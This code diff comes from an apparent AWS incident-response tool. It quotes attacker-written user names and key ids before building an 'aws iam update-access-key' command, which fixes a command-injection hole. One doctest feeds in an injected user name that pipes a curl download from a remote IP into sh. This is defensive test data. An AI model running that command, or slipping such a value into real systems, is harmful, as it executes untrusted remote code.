@@ -16,6 +16,7 @@ import pandas as pd
 from ircreds.containment.evaluate import is_temporary_key
 from ircreds.containment.records import Uncovered, UncoveredKind, _s
 from ircreds.containment.targets import ROLE_KINDS, USER_SESSION_KINDS, _is_root, _name_of, _target_of
+from ircreds.escape import shell_join
 
 # what a session revocation does not undo (aws-facts §3.10): event name -> (kind, action, target params)
 # fmt: off
@@ -100,6 +101,27 @@ def _json_obj(text: Any) -> dict[str, Any]:
     return value if isinstance(value, dict) else {}
 
 
+def _deactivate_command(user: str | None, access_key_id: str | None) -> str:
+    """The AWS CLI command that deactivates a key; user names and key ids are attacker-written: quoted.
+
+    >>> _deactivate_command("svc; curl https://203.0.113.9/x | sh #", "AKIAIOSFODNN7EXAMPLE")
+    "aws iam update-access-key --user-name 'svc; curl https://203.0.113.9/x | sh #' --access-key-id AKIAIOSFODNN7EXAMPLE --status Inactive"
+    """
+    return shell_join(
+        [
+            "aws",
+            "iam",
+            "update-access-key",
+            "--user-name",
+            user or "USER",
+            "--access-key-id",
+            access_key_id or "KEY",
+            "--status",
+            "Inactive",
+        ]
+    )
+
+
 def _uncovered_from_lineage(
     nodes: list[Any], creds: Mapping[str, Mapping[str, Any]], targets: set[str]
 ) -> list[Uncovered]:
@@ -118,7 +140,7 @@ def _uncovered_from_lineage(
                     detail=f"long-term key of user {user}",
                     action=(
                         f"deactivate, then delete, access key {node.key} of user {user} "
-                        f"(aws iam update-access-key --user-name {user} --access-key-id {node.key} --status Inactive); "
+                        f"({_deactivate_command(user, node.key)}); "
                         "no aws:TokenIssueTime deny reaches a long-term key"
                     ),
                 )
@@ -167,7 +189,7 @@ def _uncovered_calls(node: Any) -> list[Uncovered]:
             target = access_key_id or target
             action = (
                 f"deactivate, then delete, access key {access_key_id} of user {user} "
-                f"(aws iam update-access-key --user-name {user} --access-key-id {access_key_id} --status Inactive)"
+                f"({_deactivate_command(user, access_key_id)})"
             )
         elif name in ("GetFederationToken", "GetSessionToken"):
             creds = resp.get("credentials") if isinstance(resp.get("credentials"), dict) else {}
